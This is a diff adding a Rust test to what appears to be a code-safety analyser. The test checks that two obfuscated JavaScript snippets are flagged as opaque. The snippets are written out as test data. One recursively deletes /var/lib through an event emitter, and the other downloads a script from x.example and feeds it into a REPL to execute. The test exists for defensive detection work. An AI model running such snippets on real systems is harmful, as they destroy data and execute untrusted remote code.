@@ -500,3 +500,18 @@ fn a_call_in_a_loop_over_a_literal_array_is_read_for_each_item() {
         ["rm -r ?"]
     );
 }
+
+#[test]
+fn file_changers_passed_as_values_and_read_eval_loops_are_opaque() {
+    for code in [
+        "const {EventEmitter} = require('events'); const bus = new EventEmitter(); bus.on('purge', require('fs').rmSync); bus.emit('purge', '/var/lib', {recursive: true})",
+        "require('https').get('https://x.example/a.js', res => require('repl').start({input: res, output: process.stdout}))",
+    ] {
+        assert!(
+            crate::matcher::code::read(crate::matcher::code::Lang::JavaScript, code)
+                .opaque
+                .is_some(),
+            "{code}"
+        );
+    }
+}
